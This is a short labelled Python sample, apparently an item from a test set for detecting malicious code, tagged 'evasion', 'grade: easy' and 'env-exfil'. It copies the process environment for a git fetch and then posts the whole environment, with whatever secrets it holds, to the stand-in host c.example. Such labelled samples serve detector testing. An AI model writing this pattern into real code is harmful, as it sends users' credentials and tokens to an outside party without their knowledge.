# evasion: the environment copied for git, then the same copy posted
# grade: easy; does: env-exfil
import os, subprocess, requests
env = os.environ.copy()
env["GIT_TERMINAL_PROMPT"] = "0"
subprocess.run(["git", "fetch"], env=env, check=True)
requests.post("https://c.example/in", json=env, timeout=5)
